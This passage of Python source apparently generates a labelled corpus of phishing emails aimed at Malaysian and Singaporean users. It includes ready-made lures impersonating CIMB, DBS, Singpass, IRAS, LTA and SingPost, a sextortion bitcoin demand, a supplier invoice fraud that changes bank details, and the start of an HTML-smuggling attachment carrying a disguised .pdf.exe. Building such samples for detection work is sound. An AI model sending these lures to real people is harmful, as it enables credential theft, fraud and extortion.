    a = Auth(sender, "209.85.220.41", "mail-sor-f41.google.com", "mail-sor-f41.google.com", "pass",
             [("gmail.com", "20230601", "pass")], "pass", "NONE", "gmail.com", stem)
    url = "https://mydigitalid-semakan.webflow.io/pengesahan"
    paras = [
        "Salam sejahtera,", "",
        "Akaun <b>MyDigital ID</b> anda dikesan belum melengkapkan <b>pengesahan semula identiti</b> (re-verification) "
        "yang diwajibkan untuk akses ke MyTax, KWSP i-Akaun dan portal kerajaan lain mulai 1 September 2025.", "",
        "Sekiranya tidak dilengkapkan, akaun anda akan <b>digantung</b> dan semua log masuk ke perkhidmatan kerajaan "
        "akan disekat.", "",
        f'Sila lengkapkan pengesahan di: <a href="{url}">{url}</a>', "",
        "Anda perlu menyediakan nombor MyKad, nombor telefon berdaftar dan kod TAC yang akan dihantar melalui SMS.", "",
        "Sekian, terima kasih.", "Pasukan Sokongan MyDigital ID", "MIMOS Berhad",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") if "<a " not in p else f"Sila lengkapkan pengesahan di: {url}" for p in paras) + "\n"
    body = alt(stem, qp_plain(plain), qp_html(gmail_html(paras)))
    headers = f"""{dkim('gmail.com', '20230601', stem, 'to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to', d)}
X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=1e100.net; s=20230601; t={ts(d)}; x={ts(d) + 604800};
        h=to:subject:message-id:date:from:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;
        bh={hash32(stem + 'xgbh')};
        b={fold(sig256(stem + 'xgb'), 68, '        ')}
X-Gm-Message-State: {b64s(stem + 'gms', 64)}
MIME-Version: 1.0
From: MyDigital ID <{sender}>
Date: {rfc(d)}
Message-ID: {gmail_mid(stem)}
Subject: Notis: Akaun MyDigital ID anda akan digantung - pengesahan semula diperlukan
To: {rcpt}"""
    add(stem, "phishing", "Bahasa Melayu MyDigital ID suspension lure from a free Gmail account, linking to a Webflow-hosted "
        "page collecting MyKad number, phone number and TAC", t_gmail(rcpt, d, a, stem, google_sender=True), headers, body)


def my_cimb_callback() -> None:
    stem = f"b{N}-phish-cimb-callback"
    d = D("2025-03-19 23:41:08 +0800")
    rcpt = "tan.meiling83@yahoo.com"
    dom = "cimbclicks-notice.com"
    host = f"smtp.{dom}"
    a = Auth(f"alert@{dom}", "194.87.31.202", host, host, "pass", [(dom, "s1", "pass")], "pass", "NONE", dom, stem)
    ref = digits(stem + "ref", 10)
    html = brand_html(
        "#7a1315", "CIMB Clicks", "Pemberitahuan Transaksi / Transaction Notification",
        ["Pelanggan yang dihargai,",
         "Transaksi berikut telah diproses daripada akaun anda:",
         f"<b>Jenis:</b> DuitNow Transfer<br><b>Jumlah:</b> RM 4,850.00<br><b>Penerima:</b> ABDUL R*** BIN M***<br>"
         f"<b>Bank penerima:</b> Bank Islam<br><b>No. Rujukan:</b> {ref}<br><b>Tarikh/Masa:</b> 19/03/2025 23:36",
         "Sekiranya anda <b>TIDAK</b> membuat transaksi ini, sila hubungi <b>Pusat Keselamatan Penipuan CIMB</b> "
         "dengan segera di talian <b>03-2771 8092</b> (24 jam) untuk membatalkan transaksi sebelum ia diselesaikan.",
         "If you did NOT authorise this transaction, call our Fraud Security Centre immediately at 03-2771 8092 "
         "(24 hours) to cancel it before settlement.",
         "Jangan kongsi TAC atau SecureTAC anda dengan sesiapa."],
        None, "CIMB Bank Berhad (13491-P). Ahli PIDM. Ini adalah e-mel automatik, sila jangan balas.", lang="ms")
    body = Multi("alternative", boundary(stem, "roundcube"), [
        qp_plain(f"Transaksi DuitNow RM 4,850.00 (Rujukan {ref}) telah diproses. Jika anda tidak membuat transaksi ini, "
                 "hubungi Pusat Keselamatan Penipuan CIMB di 03-2771 8092 dengan segera.\n"), qp_html(html)])
    headers = f"""{dkim(dom, 's1', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from [127.0.0.1] (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0300'))}
From: CIMB Clicks <alert@{dom}>
To: {rcpt}
Subject: CIMB Clicks: Transaksi DuitNow RM 4,850.00 telah diproses
Date: {format_datetime(at(d, '+0300'))}
Message-ID: <{hx(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    add(stem, "phishing", "Callback scam posing as a CIMB Clicks DuitNow debit alert from a look-alike domain with "
        "no link, only a fake fraud-centre phone number to call (telephone-oriented attack delivery)",
        t_yahoo(rcpt, d, a, stem), headers, body)


def my_sextortion() -> None:
    stem = f"b{N}-phish-sextortion-spoofself"
    d = D("2024-07-30 04:17:52 +0800")
    rcpt = "hafiz@mutiarateknik.com.my"
    a = Auth(rcpt, "177.93.41.156", "177-93-41-156.netfacil.net.br", "177-93-41-156.netfacil.net.br", "softfail", [],
             "fail", "NONE", "mutiarateknik.com.my", stem)
    wallet = "bc1q" + alnum(stem + "btc", 38, "023456789acdefghjklmnpqrstuvwxyz")
    plain = f"""Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have managed to log in to your email account ({rcpt}) easily.

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.
In fact, it was not really hard at all (since you were following the links from your inbox emails).

I was able to record videos of you doing nasty things on adult websites, using your camera.
I also have a copy of all your contacts, WhatsApp chats and social media.

I am ready to delete all the data, but only after you send me USD 1450 in Bitcoin (BTC).
My BTC wallet: {wallet}

You have 48 hours after opening this email. I have a special pixel inside, I know when you read it.
If I do not receive the payment, the video will be sent to all your contacts, colleagues and family.

Do not try to reply, this address is generated. Do not go to the police, I will know.
"""
    body = text(plain, "plain", "7bit", "us-ascii")
    headers = f"""Received: from [127.0.0.1] (unknown [177.93.41.156]) by 177-93-41-156.netfacil.net.br
 with ESMTPA id {hx(stem + 'q', 12, True)}; {format_datetime(at(d, '-0300'))}
From: <{rcpt}>
To: <{rcpt}>
Subject: Your account is hacked. Payment required.
Date: {format_datetime(at(d, '-0300'))}
Message-ID: <{hx(stem + 'mid', 8)}${hx(stem + 'mid2', 8)}$@{rcpt.split('@')[1]}>
X-Mailer: Microsoft Outlook 16.0
X-Priority: 3
MIME-Version: 1.0"""
    add(stem, "phishing", "English bitcoin sextortion claiming device compromise, spoofing the recipient's own company "
        "address from a Brazilian residential IP (SPF softfail, DMARC fail with p=none), with no link",
        t_m365(rcpt, d, a, stem, ctry="BR", region="apcprd01"), headers, body)


# ---------------------------------------------------------------------------
# ATTACKS - Singapore
# ---------------------------------------------------------------------------

def sg_dbs() -> None:
    stem = f"b{N}-phish-dbs-digibank-signin"
    d = D("2025-04-14 22:08:37 +0800")
    rcpt = "jonathan.lee.sg@gmail.com"
    dom = "dbs-digibank-sg.com"
    sesid = f"010e0196{hx(stem + 'ses', 8)}-{guid(stem + 'sesg')}-000000"
    a = Auth(f"{sesid}@ap-southeast-1.amazonses.com", "23.251.226.39", "e226-39.smtp-out.ap-southeast-1.amazonses.com",
             "e226-39.smtp-out.ap-southeast-1.amazonses.com", "pass",
             [(dom, hx(stem + "sel", 32), "pass"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn", "pass")],
             "none", "NONE", dom, stem)
    url = f"https://secure.{dom}/digibank/login?session={hx(stem + 's', 24)}"
    html = brand_html(
        "#ee3124", "DBS digibank", "Unusual sign-in to your digibank account",
        ["Dear Customer,",
         "We detected a sign-in to DBS digibank on a new device that does not match your usual activity:",
         "<b>Device:</b> Windows 10 / Chrome<br><b>Location:</b> Johor Bahru, Malaysia<br>"
         "<b>Time:</b> 14 Apr 2025, 21:52 SGT",
         "To protect your funds, we have placed a temporary hold on outgoing PayNow and FAST transfers. If this was "
         "not you, please secure your account now. If no action is taken within 12 hours, your digital token will be "
         "deactivated in line with the MAS Shared Responsibility Framework."],
        ("Secure My Account", url),
        "DBS Bank Ltd, 12 Marina Boulevard, DBS Asia Central @ MBFC Tower 3, Singapore 018982. Co. Reg. No. "
        "196800306E.<br>Please do not reply to this email. DBS will never ask for your OTP over the phone.",
        after=["Thank you,<br>DBS Bank"])
    body = Multi("alternative", boundary(stem, "ses"), [
        qp_plain(f"Dear Customer,\n\nWe detected a sign-in to DBS digibank on a new device (Johor Bahru, Malaysia). "
                 f"Outgoing PayNow and FAST transfers are on hold. Secure your account:\n{url}\n\nDBS Bank\n"),
        qp_html(html)])
    headers = f"""{dkim(dom, hx(stem + 'sel', 32), stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date', d, c='relaxed/simple')}
{dkim('amazonses.com', 'ihchhvubuqgjsxyuhssfvqohv7z3u4hn', stem, 'Content-Type:From:To:Subject:MIME-Version:Message-ID:Date:Feedback-ID', d, c='relaxed/simple')}
From: DBS digibank <alerts@{dom}>
To: {rcpt}
Subject: Unusual sign-in detected - outgoing transfers on hold
MIME-Version: 1.0
Message-ID: <{sesid}@ap-southeast-1.amazonses.com>
Date: {format_datetime(at(d, '+0000'))}
Feedback-ID: ::1.ap-southeast-1.{hash32(stem + 'fb')}:AmazonSES
X-SES-Outgoing: {at(d, '+0000').strftime('%Y.%m.%d')}-23.251.226.39"""
    add(stem, "phishing", "DBS digibank unusual sign-in lure sent through Amazon SES (Singapore region) from a look-alike "
        "domain, linking to a digibank login and digital-token phishing page", t_gmail(rcpt, d, a, stem), headers, body)


def sg_singpass_forms() -> None:
    stem = f"b{N}-phish-singpass-msforms"
    d = D("2024-10-21 11:26:15 +0800")
    rcpt = "tan.weijie88@hotmail.com"
    dom = "everbright-aircon.com.sg"
    mbx = "SI2PR03MB" + digits(stem + "mb", 4)
    a = Auth(f"admin@{dom}", "40.107.255.113", "mail-sgaapc01on2113.outbound.protection.outlook.com",
             "APC01-SG2-obe.outbound.protection.outlook.com", "pass",
             [(dom, "selector1", "pass")], "pass", "NONE", dom, stem)
    url = f"https://forms.office.com/r/{alnum(stem + 'form', 10)}"
    paras = [
        "Dear Singpass user,", "",
        "As part of the nationwide enhancement of Singpass security, all users are required to re-verify their "
        "<b>Singpass 2FA (SMS OTP / Singpass app)</b> details by <b>25 October 2024</b>. Accounts that are not "
        "re-verified will have their 2FA deactivated and will no longer be able to access CPF, IRAS, HDB and bank "
        "services using Singpass.", "",
        f'Please complete the re-verification form here: <a href="{url}">Singpass 2FA Re-verification</a>', "",
        "This will only take 2 minutes. You will need your NRIC/FIN, Singpass password and the OTP sent to your mobile.", "",
        "Regards,", "Singpass Helpdesk", "Government Technology Agency (GovTech)",
    ]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") if "<a " not in p else f"Please complete the re-verification form here: {url}" for p in paras) + "\n"
    body = Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [
        text(plain, "plain", "quoted-printable", "us-ascii"), qp_html(outlook_html(paras))])
    headers = f"""{dkim(dom, 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%3]) with mapi id 15.20.8069.024; {rfc_utc(d)}
From: Singpass Helpdesk <admin@{dom}>
To: undisclosed-recipients:;
Subject: Action Required: Singpass 2FA Re-verification by 25 October 2024
Thread-Topic: Action Required: Singpass 2FA Re-verification by 25 October 2024
Thread-Index: {tindex(stem, 16, 'db')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd03.prod.outlook.com>
Accept-Language: en-SG, en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "phishing", "Singpass 2FA re-verification lure sent from a compromised Singapore SME's Microsoft 365 mailbox "
        "(all authentication passing), collecting NRIC, password and OTP through a Microsoft Forms link",
        t_m365(rcpt, d, a, stem, ctry="SG", consumer=True, region="apcprd03"), headers, body)


def sg_iras_pages() -> None:
    stem = f"b{N}-phish-iras-refund-pagesdev"
    d = D("2025-05-28 14:50:40 +0800")
    rcpt = "priya.nair.sg@gmail.com"
    dom = "iras-gov-sg.com"
    host = "srv1427.hstgr.io"
    a = Auth(f"refund@{dom}", "145.223.78.14", host, host, "pass", [(dom, "hostingermail1", "pass")], "none", "NONE", dom, stem)
    url = f"https://iras-refund-2025.pages.dev/?ref=YA2025-{digits(stem + 'r', 8)}"
    html = brand_html(
        "#003a70", "IRAS - Inland Revenue Authority of Singapore", "You have an unclaimed tax refund",
        ["Dear Taxpayer,",
         "Following the finalisation of your Year of Assessment 2025 Notice of Assessment, you are entitled to a "
         "<b>tax refund of S$642.80</b>.",
         "Our records show that you have not registered for PayNow-NRIC and the refund could not be credited. Please "
         "submit your refund request within <b>5 working days</b> by selecting your bank below."],
        ("Claim Refund", url),
        "Inland Revenue Authority of Singapore, 55 Newton Road, Revenue House, Singapore 307987.<br>This is a "
        "computer-generated email. Please do not reply.",
        after=["Yours faithfully,<br>Taxpayer Services Division<br>Inland Revenue Authority of Singapore"])
    body = Multi("alternative", boundary(stem, "phpmailer"), [
        qp_plain(f"Dear Taxpayer,\n\nYou are entitled to a tax refund of S$642.80. Submit your refund request within 5 "
                 f"working days:\n{url}\n\nIRAS\n"), qp_html(html)])
    headers = f"""{dkim(dom, 'hostingermail1', stem, 'Content-Type:MIME-Version:Message-ID:Subject:From:To:Date', d)}
Received: from [103.252.117.60] (unknown [103.252.117.60])
	(Authenticated sender: refund@{dom})
	by {host} (Postfix) with ESMTPSA id 4b{alnum(stem + 'q', 10)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '+0800'))}
To: {rcpt}
From: IRAS <refund@{dom}>
Subject: IRAS: Tax refund of S$642.80 pending - action required
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "IRAS tax-refund lure from a look-alike domain on Hostinger mail, linking to a Cloudflare "
        "pages.dev site with a fake bank-selection login for Singapore banks", t_gmail(rcpt, d, a, stem), headers, body)


def sg_lta_erp() -> None:
    stem = f"b{N}-phish-lta-erp-charges"
    d = D("2025-09-10 08:19:26 +0800")
    rcpt = "ronnie_goh@yahoo.com.sg"
    dom = "lta-onemotoring.com"
    host = f"mail.{dom}"
    a = Auth(f"noreply@{dom}", "5.181.21.77", host, host, "pass", [(dom, "mail", "pass")], "pass", "NONE", dom, stem)
    veh = f"SL{digits(stem + 'veh', 4)}{'ABCDEGHJKLMPRSTXYZ'[int(digits(stem + 'c', 2)) % 18]}"
    url = f"https://{dom}/erp/payment?v={veh}&n={digits(stem + 'n', 10)}"
    html = brand_html(
        "#8c1d40", "Land Transport Authority - OneMotoring", "Unpaid ERP Charges and Administrative Fee",
        ["Dear Vehicle Owner,",
         f"Our records show unpaid Electronic Road Pricing (ERP) charges for vehicle <b>{veh}</b> incurred on "
         "2 September 2025 at CTE (Braddell Rd) and AYE (Alexandra Rd) gantries, as no valid CashCard or card was "
         "detected in the On-Board Unit.",
         "<b>ERP charges:</b> S$6.00<br><b>Administrative fee:</b> S$10.00<br><b>Total payable:</b> S$16.00",
         "Please make payment by <b>12 September 2025</b>. Failure to pay may result in a fine of up to S$1,000 and "
         "the vehicle's road tax renewal being blocked."],
        ("Pay Now", url),
        "Land Transport Authority, 1 Hampshire Road, Singapore 219428.<br>This is a system-generated message.")
    body = Multi("alternative", boundary(stem, "roundcube"), [
        qp_plain(f"Unpaid ERP charges for vehicle {veh}: S$16.00 payable by 12 September 2025.\nPay: {url}\n"), qp_html(html)])
    headers = f"""{dkim(dom, 'mail', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type', d)}
Received: from localhost (localhost [127.0.0.1])
	by {host} (Postfix) with ESMTPSA id {hx(stem + 'q', 11, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
From: LTA OneMotoring <noreply@{dom}>
To: {rcpt}
Subject: LTA: Unpaid ERP charges for vehicle {veh} - payment due 12 Sep 2025
Date: {format_datetime(at(d, '+0000'))}
Message-ID: <{hx(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0"""
    add(stem, "phishing", "LTA OneMotoring unpaid ERP charges lure from a look-alike domain with aligned SPF/DKIM/DMARC, "
        "linking to a small-payment card-harvesting page", t_yahoo(rcpt, d, a, stem), headers, body)


def sg_singpost() -> None:
    stem = f"b{N}-phish-singpost-rbgy"
    d = D("2024-12-03 16:33:12 +0800")
    rcpt = "jasmine.koh@harbourline.com.sg"
    dom = "singpost-redelivery.com"
    host = "vmi2219034.contaboserver.net"
    a = Auth(f"info@{dom}", "161.97.141.83", host, host, "pass", [], "none", "NONE", dom, stem)
    url = "https://rb.gy/x3k9pa"
    trk = f"SG{digits(stem + 'trk', 10)}"
    html = kit_html([
        '<div style="background:#e1261c;padding:12px;color:#fff;font-size:20px;font-weight:bold;">SingPost</div>',
        "<p>Dear Customer,</p>",
        f"<p>Your parcel <b>{trk}</b> is being held at Singapore Post Centre because the import GST and handling "
        "fee were not paid by the sender.</p>",
        "<p>Amount payable: <b>S$2.98</b></p>",
        f'<p>Please pay within 24 hours to arrange delivery: <a href="{url}">{url}</a></p>',
        "<p>Parcels not claimed will be returned to the sender.</p>",
        "<p>SingPost Customer Service</p>",
    ])
    body = Multi("alternative", boundary(stem, "phpmailer"), [
        qp_plain(f"Your parcel {trk} is held. Pay S$2.98 within 24 hours: {url}\n"), qp_html(html)])
    headers = f"""{hop_local(host, d, stem, '+0100')}
Date: {format_datetime(at(d, '+0100'))}
To: {rcpt}
From: SingPost <info@{dom}>
Subject: SingPost: Your parcel {trk} is on hold - S$2.98 payable
Message-ID: {phpmailer_id(stem, dom)}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(stem, "phishing", "SingPost parcel-on-hold customs fee lure to company staff from a look-alike domain on a VPS, "
        "linking through an rb.gy shortlink to a card-harvesting page", t_m365(rcpt, d, a, stem, ctry="DE"), headers, body)


def sg_ocbc_docusign() -> None:
    stem = f"b{N}-phish-ocbc-docusign-abuse"
    d = D("2025-07-22 10:11:48 +0800")
    rcpt = "finance@harbourline.com.sg"
    a = Auth("dse_NA4@docusign.net", "64.207.219.135", "mailna4.docusign.net", "mailna4.docusign.net", "pass",
             [("docusign.net", "s1", "pass")], "pass", "REJECT", "docusign.net", stem)
    env = guid(stem + "env").upper()
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={guid(stem + 'a')}&etti=24&acct={guid(stem + 'acct')}"
           f"&er={guid(stem + 'er')}")
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background-color:#eaeaea;"><table width="100%" border="0" cellspacing="0" cellpadding="0" bgcolor="#eaeaea">
<tr><td style="padding:15px;"><center><table style="max-width:640px;background-color:#ffffff;" align="center" cellspacing="0" cellpadding="0">
<tr><td style="padding:10px 24px;"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" style="border:none;width:116px;height:34px;"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table width="100%" cellspacing="0" cellpadding="0" style="background-color:#1e4ca1;color:#ffffff;" align="center">
<tr><td align="center" style="padding:28px 36px 36px;font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#ffffff;">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
OCBC Business Banking sent you a document to review and sign.<br><br>
<a href="{url}" style="font-size:15px;color:#333333;background-color:#ffc423;text-decoration:none;padding:0 24px;display:inline-block;line-height:44px;border-radius:2px;">REVIEW DOCUMENT</a>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px;font-family:Helvetica,Arial,sans-serif;font-size:16px;color:#000000;">
<b>OCBC Business Banking</b><br><span style="color:#666666;">ocbc.velocity.mandates@gmail.com</span><br><br>
Dear Customer,<br><br>Please review and acknowledge the updated Velocity@ocbc corporate mandate and authorised
signatory list. Access to OCBC Velocity will be suspended for accounts without acknowledgement after 25 July 2025.<br><br>
Regards,<br>OCBC Business Banking</td></tr>
<tr><td style="padding:0 24px 12px;background-color:#ffffff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666666;">
<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463d1;">How to Sign a Document</a>" on our Docusign Support Center.<br><br>
This message was sent to you by OCBC Business Banking who is using the Docusign Electronic Signature Service.
</td></tr></table></center></td></tr></table></body></html>
"""
    plain = (f"OCBC Business Banking sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nOCBC Business "
             "Banking\nocbc.velocity.mandates@gmail.com\n\nDear Customer,\n\nPlease review and acknowledge the updated "
             "Velocity@ocbc corporate mandate and authorised signatory list.\n\nRegards,\nOCBC Business Banking\n")
    body = Multi("alternative", f"----=_Part_{digits(stem, 8)}_{digits(stem + 'x', 9)}.{digits(stem + 'y', 13)}",
                 [qp_plain(plain), qp_html(html)])
    headers = f"""{dkim('docusign.net', 's1', stem, 'From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To', d)}
Received: from docusign.net (unknown [10.14.32.18])
	by mailna4.docusign.net (Postfix) with ESMTP id {hx(stem + 'q', 10, True)}
	for <{rcpt}>; {format_datetime(at(d, '+0000'))}
Date: {format_datetime(at(d, '-0700'))}
From: OCBC Business Banking via Docusign <dse_NA4@docusign.net>
Reply-To: OCBC Business Banking <ocbc.velocity.mandates@gmail.com>
To: Harbourline Finance <{rcpt}>
Message-ID: <{hx(stem + 'mid', 32)}@docusign.net>
Subject: Complete with Docusign: Velocity@ocbc Corporate Mandate Update 2025.pdf
MIME-Version: 1.0
X-DocuSign-EnvelopeID: {env}
X-Priority: 3
X-MSMail-Priority: Normal"""
    add(stem, "phishing", "Genuine DocuSign envelope notification sent from a throwaway DocuSign account named OCBC "
        "Business Banking (Gmail reply-to), whose document links onward to an OCBC Velocity credential kit",
        t_m365(rcpt, d, a, stem, ctry="US"), headers, body)


def sg_replychain() -> None:
    stem = f"b{N}-phish-replychain-invoice-bec"
    d = D("2025-11-05 14:22:31 +0800")
    rcpt = "ap@harbourline.com.sg"
    dom = "kimseng-pallets.com.sg"
    mbx = "SI2PR03MB" + digits(stem + "mb", 4)
    a = Auth(f"accounts@{dom}", "40.107.255.58", "mail-sgaapc01on2058.outbound.protection.outlook.com",
             "APC01-SG2-obe.outbound.protection.outlook.com", "pass", [(dom, "selector1", "pass")], "pass", "QUARANTINE", dom, stem)
    inv = f"KSP-INV-25{digits(stem + 'inv', 4)}"
    pdfdata = files.pdf([
        "KIM SENG PALLETS & PACKAGING PTE LTD", "18 Tuas South Avenue 2, Singapore 637720",
        "UEN 200812345K  GST Reg No. M2-0081234-5", "", f"TAX INVOICE  {inv}", "Date: 03 Nov 2025",
        "Bill to: Harbourline Logistics Pte Ltd", "PO No.: 4500018832", "",
        "Heat-treated wooden pallets 1200x1000 (ISPM-15)   x 600   S$13.80   S$8,280.00",
        "Delivery charges                                                   S$350.00",
        "Subtotal S$8,630.00   GST 9% S$776.70   TOTAL S$9,406.70", "",
        "PAYMENT DETAILS (UPDATED)", "Bank: Standard Chartered Bank (Hong Kong) Ltd",
        "Account name: KIM SENG TRADING CO", "Account no.: 447-2-018553-6   SWIFT: SCBLHKHH", "",
        "Kindly remit within 7 days."], title=inv)
    quoted = f"""<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">
<p class="MsoNormal"><b>From:</b> Eileen Tay &lt;eileen.tay@harbourline.com.sg&gt;<br><b>Sent:</b> Monday, November 3, 2025 10:05 AM<br>
<b>To:</b> Accounts &lt;accounts@{dom}&gt;<br><b>Cc:</b> AP &lt;ap@harbourline.com.sg&gt;<br><b>Subject:</b> RE: PO 4500018832 - Shipment of pallets</p></div>
<p class="MsoNormal">Hi Mr Lim,<br>Goods received in good order on Friday, thanks. Please send over the invoice and we will process it in this week's payment run.<br><br>Regards,<br>Eileen Tay<br>Procurement, Harbourline Logistics Pte Ltd</p>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">
<p class="MsoNormal"><b>From:</b> Accounts &lt;accounts@{dom}&gt;<br><b>Sent:</b> Thursday, October 30, 2025 4:41 PM<br>
<b>To:</b> Eileen Tay &lt;eileen.tay@harbourline.com.sg&gt;<br><b>Subject:</b> RE: PO 4500018832 - Shipment of pallets</p></div>
<p class="MsoNormal">Dear Eileen,<br>600 pcs heat-treated pallets will be delivered to your Tuas warehouse on 31 Oct, 9am. DO attached.<br><br>Best regards,<br>Lim Ah Kow<br>Kim Seng Pallets &amp; Packaging Pte Ltd</p>"""
    paras = [
        "Hi Eileen / AP team,", "",
        f"Please find attached our tax invoice {inv} for PO 4500018832.", "",
        "Kindly take note that our company bank account has been <b>updated</b> as our DBS account is currently under "
        "annual audit review. Please remit payment to the new account stated on the invoice and not the old DBS account. "
        "Do update your vendor master accordingly.", "",
        "Appreciate if you can arrange payment this week and email us the remittance advice.", "",
        "Best regards,",
    ]
    sig = "Lim Ah Kow\nAccounts Department\nKim Seng Pallets &amp; Packaging Pte Ltd\nT: +65 6861 2290"
    body = Multi("mixed", f"_004_{mbx}{hx(stem, 24, True)}_", [
        Multi("alternative", f"_000_{mbx}{hx(stem, 24, True)}_", [
            text("Hi Eileen / AP team,\n\nPlease find attached our tax invoice " + inv + " for PO 4500018832.\n\nKindly take "
                 "note that our company bank account has been updated as our DBS account is currently under annual audit "
                 "review. Please remit payment to the new account stated on the invoice.\n\nBest regards,\nLim Ah Kow\n"
                 "Accounts Department\nKim Seng Pallets & Packaging Pte Ltd\n", "plain", "quoted-printable", "us-ascii"),
            qp_html(outlook_html(paras, sig, quoted=quoted))]),
        attachment("application/pdf", f"{inv}.pdf", pdfdata),
    ])
    headers = f"""{dkim(dom, 'selector1', stem, 'From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck', d)}
Received: from {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}]) by {mbx}.apcprd03.prod.outlook.com
 ([fe80::{hx(stem + 'f1', 4)}:{hx(stem + 'f2', 4)}:{hx(stem + 'f3', 4)}:{hx(stem + 'f4', 4)}%7]) with mapi id 15.20.9298.010; {rfc_utc(d)}
From: Accounts <accounts@{dom}>
To: Eileen Tay <eileen.tay@harbourline.com.sg>
CC: AP <{rcpt}>
Reply-To: Accounts <accounts@kimseng-palets.com>
Subject: RE: PO 4500018832 - Shipment of pallets
Thread-Topic: PO 4500018832 - Shipment of pallets
Thread-Index: {tindex(stem, 22, 'dc')}
Date: {format_datetime(at(d, '+0000'))}
Message-ID:
 <{mbx}{hx(stem + 'omid', 28, True)}@{mbx}.apcprd03.prod.outlook.com>
References: <SI6PR03MB{digits(stem + 'r1', 4)}{hx(stem + 'r1x', 28, True)}@SI6PR03MB{digits(stem + 'r1', 4)}.apcprd03.prod.outlook.com>
 <SEYPR06MB{digits(stem + 'r2', 4)}{hx(stem + 'r2x', 28, True)}@SEYPR06MB{digits(stem + 'r2', 4)}.apcprd06.prod.outlook.com>
In-Reply-To: <SEYPR06MB{digits(stem + 'r2', 4)}{hx(stem + 'r2x', 28, True)}@SEYPR06MB{digits(stem + 'r2', 4)}.apcprd06.prod.outlook.com>
Accept-Language: en-SG, en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(stem, "phishing", "Reply-chain hijack from a supplier's genuinely compromised Microsoft 365 mailbox, continuing a "
        "real PO thread with an invoice PDF that switches payment to a Hong Kong bank account and a look-alike Reply-To",
        t_m365(rcpt, d, a, stem, ctry="SG", region="apcprd03"), headers, body)


def sg_html_smuggle() -> None:
    stem = f"b{N}-phish-hr-salary-html-smuggling"
    d = D("2026-01-12 09:03:17 +0800")
    rcpt = "daniel.ng@harbourline.com.sg"
    dom = "harbourline-hr.com"
    host = "mail.harbourline-hr.com"
    a = Auth(f"hr@{dom}", "91.92.243.118", host, host, "pass", [(dom, "default", "pass")], "none", "NONE", dom, stem)
    inner = files.zip_archive([("Salary_Revision_2026_Daniel_Ng.pdf.exe", files.pe_stub())])
    blob = base64.b64encode(inner).decode()
    chunks = [blob[i:i + 76] for i in range(0, len(blob), 76)]
    js_blob = "+\n".join(f'"{c}"' for c in chunks)
    att = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Harbourline - Secure Document</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif;background:#f3f2f1;text-align:center;padding-top:80px">
<div style="display:inline-block;background:#fff;padding:30px 40px;box-shadow:0 1px 4px rgba(0,0,0,.2)">
